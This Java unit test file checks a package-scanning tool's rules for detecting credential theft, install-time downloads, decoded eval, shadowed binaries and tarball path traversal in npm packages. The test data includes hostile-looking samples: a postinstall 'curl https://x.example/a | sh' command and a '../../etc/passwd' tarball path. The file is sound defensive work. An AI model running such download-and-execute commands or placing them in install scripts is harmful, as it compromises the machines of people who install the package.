package dev.portcullis.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.js.Fact;
import dev.portcullis.model.Finding;
import dev.portcullis.model.Severity;
import dev.portcullis.model.Verdict;
import dev.portcullis.policy.VerdictThresholds;
import dev.portcullis.tarball.TarballFile;
import dev.portcullis.tarball.TarballProblem;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The evaluator and reachability over hand-built facts (see {@link FakeExtractor}): scopes, depth, install time,
 * minified files, transitive requires, cycles, missing files, verdicts. Uses the shipped rule files, so it also
 * pins what the main rules combine.
 */
class AnalyzerTest {
    private static final List<ContentRule> RULES = PackageAnalyzer.defaultRules();

    private static PackageAnalysis analyze(Map<String, List<Fact>> commands, String... pathsAndContents) {
        List<TarballFile> files = new ArrayList<>();
        for (int i = 0; i < pathsAndContents.length; i += 2) {
            files.add(new TarballFile(pathsAndContents[i], pathsAndContents[i + 1].getBytes(StandardCharsets.UTF_8),
                    0644));
        }
        return new PackageAnalyzer(RULES, new FakeExtractor(commands))
                .analyze(new PackageInput("demo", "1.0.0", files, List.of()));
    }

    private static PackageAnalysis analyze(String... pathsAndContents) {
        return analyze(Map.of(), pathsAndContents);
    }

    private static List<String> rules(PackageAnalysis analysis) {
        return analysis.findings().stream().map(f -> f.rule().id() + "@" + f.location()).toList();
    }

    private static final String MANIFEST = "{\"name\":\"demo\",\"version\":\"1.0.0\"}";

    private static String manifestWith(String script) {
        return "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"postinstall\": \""
                + script + "\"\n  }\n}\n";
    }

    @Test
    void aCapabilityAloneIsInformation() {
        PackageAnalysis analysis = analyze("package.json", MANIFEST, "index.js", "network https.get");
        assertThat(rules(analysis)).containsExactly("content/network-access@index.js:1");
        assertThat(analysis.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.ALLOW);
    }

    @Test
    void credentialsAndNetworkInOneFileBlock() {
        PackageAnalysis analysis = analyze("package.json", MANIFEST,
                "lib/steal.js", "sensitive-path npmrc\n\nnetwork https.request");
        assertThat(rules(analysis)).contains("content/credential-exfiltration@lib/steal.js:1");
        Finding finding = analysis.findings().stream()
                .filter(f -> f.rule().id().equals("content/credential-exfiltration")).findFirst().orElseThrow();
        assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(finding.message()).contains("sensitive-path npmrc at line 1", "network https.request at line 3");
        assertThat(finding.evidence()).isEqualTo("sensitive-path npmrc | network https.request");
        assertThat(finding.packageName()).isEqualTo("demo");
        assertThat(finding.version()).isEqualTo("1.0.0");
        assertThat(analysis.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.BLOCK);
    }

    @Test
    void maxLineSpanKeepsTheFactsOfAMatchClose() {
        String far = "sensitive-path npmrc\n" + "\n".repeat(500) + "network https.request";
        assertThat(rules(analyze("package.json", MANIFEST, "bundle.js", far)))
                .doesNotContain("content/credential-exfiltration@bundle.js:1");
        String farThenNear = far + "\n".repeat(500) + "sensitive-path ssh\n\nnetwork fetch";
        assertThat(rules(analyze("package.json", MANIFEST, "bundle.js", farThenNear)))
                .contains("content/credential-exfiltration@bundle.js:1002");
    }

    @Test
    void sameFileScopeDoesNotJoinFilesOutsideTheInstallFlow() {
        PackageAnalysis analysis = analyze("package.json", MANIFEST,
                "a.js", "sensitive-path npmrc", "b.js", "network https.request");
        assertThat(rules(analysis)).doesNotContain("content/credential-exfiltration@a.js:1");
        assertThat(analysis.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.ALLOW);
    }

    @Test
    void installFlowJoinsFactsAcrossTheFilesAScriptRuns() {
        Map<String, List<Fact>> commands = Map.of("node install.js", List.of(FakeExtractor.fact("runs-file install.js", 1)));
        PackageAnalysis analysis = analyze(commands, "package.json", manifestWith("node install.js"),
                "install.js", "require ./lib/read\nrequire ./send.js",
                "lib/read.js", "sensitive-path npmrc",
                "send.js", "network https.request");
        assertThat(rules(analysis)).contains("content/credential-exfiltration@lib/read.js:1",
                "content/install-network@send.js:1", "content/lifecycle-script@package.json:5");
        Finding flow = analysis.findings().stream()
                .filter(f -> f.rule().id().equals("content/credential-exfiltration")).findFirst().orElseThrow();
        assertThat(flow.message()).contains("across the install flow", "send.js:1");
    }

    @Test
    void installTimeRulesIgnoreFilesThatDoNotRunAtInstall() {
        Map<String, List<Fact>> commands = Map.of("node install.js", List.of(FakeExtractor.fact("runs-file install.js", 1)));
        PackageAnalysis analysis = analyze(commands, "package.json", manifestWith("node install.js"),
                "install.js", "child-process execFileSync",
                "runtime.js", "network fetch");
        assertThat(rules(analysis)).contains("content/install-child-process@install.js:1",
                        "content/network-access@runtime.js:1")
                .doesNotContain("content/install-network@runtime.js:1");
    }

    @Test
    void largeInstallFlowsAreNotJoinedAcrossFiles() {
        Map<String, List<Fact>> commands = Map.of("node install.js", List.of(FakeExtractor.fact("runs-file install.js", 1)));
        List<String> args = new ArrayList<>(List.of("package.json", manifestWith("node install.js")));
        StringBuilder requires = new StringBuilder();
        for (int i = 0; i < RuleEvaluator.MAX_JOINED_FLOW_FILES - 1; i++) {
            requires.append("require ./m").append(i).append('\n');
            args.add("m" + i + ".js");
            args.add(i == 0 ? "sensitive-path npmrc" : i == 1 ? "network https.request" : "");
        }
        args.add("install.js");
        args.add(requires.toString());
        assertThat(rules(analyze(commands, args.toArray(String[]::new))))
                .contains("content/credential-exfiltration@m0.js:1");
        args.add("m-extra.js");
        args.add("");
        args.set(args.indexOf("install.js") + 1, requires + "require ./m-extra");
        assertThat(rules(analyze(commands, args.toArray(String[]::new))))
                .noneMatch(r -> r.startsWith("content/credential-exfiltration"));
    }

    @Test
    void reachabilityFollowsRequiresTransitivelyThroughCyclesAndPastMissingFiles() {
        Map<String, List<Fact>> commands = Map.of("node .", List.of(FakeExtractor.fact("runs-file .", 1)));
        String manifest = "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"lib/main.js\","
                + "\"scripts\":{\"install\":\"node .\"}}";
        List<TarballFile> files = List.of(
                file("package.json", manifest),
                file("lib/main.js", "require ./a\nrequire ./missing\nrequire ../../outside"),
                file("lib/a.js", "require ./b/index.js\nrequire ./main"),
                file("lib/b/index.js", "require ../a.js\nrequire ./c"),
                file("lib/b/c/index.js", "network https.get"),
                file("lib/unused.js", "network https.get"));
        FakeExtractor extractor = new FakeExtractor(commands);
        var byPath = new java.util.HashMap<String, dev.portcullis.js.FileFacts>();
        for (TarballFile f : files.subList(1, files.size())) {
            byPath.put(f.path(), extractor.file(f.path(), f.content()));
        }
        var manifestFacts = ManifestFacts.read(files.getFirst().content(), false, false, extractor);
        assertThat(InstallFlow.files(manifestFacts.facts(), byPath, manifestFacts.main()))
                .containsExactly("package.json", "lib/main.js", "lib/a.js", "lib/b/index.js", "lib/b/c/index.js");
    }

    @Test
    void implicitNodeGypBuildIsALifecycleScript() {
        PackageAnalysis analysis = analyze("package.json", MANIFEST, "binding.gyp", "");
        assertThat(rules(analysis)).containsExactly("content/lifecycle-script@package.json");
        assertThat(analysis.findings().getFirst().evidence()).contains("node-gyp rebuild");
    }

    @Test
    void depthConditionsNeedAFactInsideADecodedPayload() {
        assertThat(rules(analyze("package.json", MANIFEST, "x.js", "eval eval")))
                .containsExactly("content/dynamic-code@x.js:1");
        assertThat(rules(analyze("package.json", MANIFEST, "x.js", "encoded-payload base64\neval eval 1")))
                .contains("content/decoded-eval@x.js:2");
    }

    @Test
    void notMinifiedRulesSkipMinifiedFiles() {
        assertThat(rules(analyze("package.json", MANIFEST, "x.js", "#minified\nencoded-payload base64\neval eval")))
                .doesNotContain("content/decoded-eval@x.js:2");
        assertThat(rules(analyze("package.json", MANIFEST, "x.js", "encoded-payload base64\neval eval")))
                .contains("content/decoded-eval@x.js:1");
    }

    @Test
    void installSeverityRaisesAMatchInInstallTimeCode() {
        Map<String, List<Fact>> commands = Map.of("curl https://x.example/a | sh",
                List.of(FakeExtractor.fact("pipe-to-shell sh", 1), FakeExtractor.fact("download https://x.example/a", 1)));
        PackageAnalysis atInstall = analyze(commands, "package.json", manifestWith("curl https://x.example/a | sh"));
        Finding finding = atInstall.findings().stream().filter(f -> f.rule().id().equals("content/download-exec"))
                .findFirst().orElseThrow();
        assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(finding.location().line()).isEqualTo(5);
        PackageAnalysis later = analyze("package.json", MANIFEST, "tools/setup.sh", "pipe-to-shell sh");
        assertThat(later.findings()).filteredOn(f -> f.rule().id().equals("content/download-exec"))
                .extracting(Finding::severity).containsExactly(Severity.MEDIUM);
        assertThat(later.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.ALLOW);
    }

    @Test
    void manifestFactsFindRemoteDependenciesAndShadowingBins() {
        String manifest = """
                {
                  "name": "@evil/tools",
                  "version": "1.0.0",
                  "bin": { "git": "./bin/git.js", "tools": "./bin/tools.js" },
                  "dependencies": {
                    "ok": "^1.0.0",
                    "ui-styles-pkg": "http://packages.example/ui-styles-pkg.tgz",
                    "gitdep": "github:someone/repo"
                  },
                  "devDependencies": { "dev-only": "git+https://git.example/x.git" }
                }
                """;
        PackageAnalysis analysis = analyze("package.json", manifest);
        assertThat(rules(analysis)).containsExactly("content/bin-shadowing@package.json:4",
                "content/remote-url-dependency@package.json:7", "content/remote-dependency@package.json:8");
        assertThat(analysis.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.BLOCK);
    }

    @Test
    void aPackageProvidingItsOwnNamesakeCommandIsNotShadowing() {
        assertThat(analyze("package.json", "{\"name\":\"yarn\",\"version\":\"1.22.0\",\"bin\":{\"yarn\":\"bin/yarn.js\"}}")
                .findings()).isEmpty();
    }

    @Test
    void missingOrBrokenManifestsAreFindings() {
        assertThat(rules(analyze("index.js", ""))).containsExactly("content/invalid-manifest@package.json");
        assertThat(rules(analyze("package.json", "{ not json"))).containsExactly("content/invalid-manifest@package.json:1");
        assertThat(rules(analyze("package.json", "[1, 2]"))).containsExactly("content/invalid-manifest@package.json:1");
    }

    @Test
    void hostileManifestsEndAsAFindingNotAnException() {
        String deep = "{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000);
        assertThat(rules(analyze("package.json", deep))).containsExactly("content/invalid-manifest@package.json:1");
        String hugeBin = "{\"name\":\"x\",\"bin\":{" + java.util.stream.IntStream.range(0, 50_000)
                .mapToObj(i -> "\"b" + i + "\":\"x.js\"").collect(java.util.stream.Collectors.joining(",")) + "}}";
        assertThat(analyze("package.json", hugeBin).findings()).isEmpty();
    }

    @Test
    void tarballProblemsBecomeFindingsAtTheirEntry() {
        PackageInput input = new PackageInput("demo", "1.0.0", List.of(file("package.json", MANIFEST)), List.of(
                new TarballProblem(TarballProblem.Kind.PATH_TRAVERSAL, "package/../../etc/passwd", "escapes the package"),
                new TarballProblem(TarballProblem.Kind.SYMLINK, "package/link", "a symbolic link"),
                new TarballProblem(TarballProblem.Kind.TRUNCATED, "", "the gzip stream ends early")));
        PackageAnalysis analysis = new PackageAnalyzer(RULES, new FakeExtractor()).analyze(input);
        assertThat(rules(analysis)).containsExactly("content/tarball-corrupt@(tarball)",
                "content/tarball-path-traversal@package/../../etc/passwd", "content/tarball-link@package/link");
        assertThat(analysis.verdict(VerdictThresholds.defaults())).isEqualTo(Verdict.BLOCK);
    }

    @Test
    void oneRuleReportsAtMostAFewFindingsPerPackage() {
        List<String> args = new ArrayList<>(List.of("package.json", MANIFEST));
        for (int i = 0; i < 50; i++) {
            args.add("f" + (100 + i) + ".js");
            args.add("eval Function");
        }
        PackageAnalysis analysis = analyze(args.toArray(String[]::new));
        assertThat(analysis.findings()).hasSize(RuleEvaluator.MAX_FINDINGS_PER_RULE);
        assertThat(analysis.findings().getLast().message()).endsWith("(and 30 more files)");
        assertThat(analysis.files()).isEqualTo(51);
    }

    @Test
    void findingsAreSortedAndDeterministic() {
        String[] input = {"package.json", MANIFEST, "z.js", "network fetch", "a.js", "eval eval\nnetwork fetch"};
        PackageAnalysis first = analyze(input);
        assertThat(first.findings()).isSortedAccordingTo(Finding.ORDER);
        assertThat(analyze(input)).isEqualTo(first);
    }

    @Test
    void rulesListEveryDescriptorOnceSortedById() {
        PackageAnalyzer analyzer = new PackageAnalyzer(RULES, new FakeExtractor());
        assertThat(analyzer.rules()).extracting(r -> r.id()).isSorted().doesNotHaveDuplicates()
                .contains("content/credential-exfiltration", "content/lifecycle-script");
        assertThat(analyzer.rules()).hasSize(RULES.size());
    }

    private static TarballFile file(String path, String content) {
        return new TarballFile(path, content.getBytes(StandardCharsets.UTF_8), 0644);
    }
}
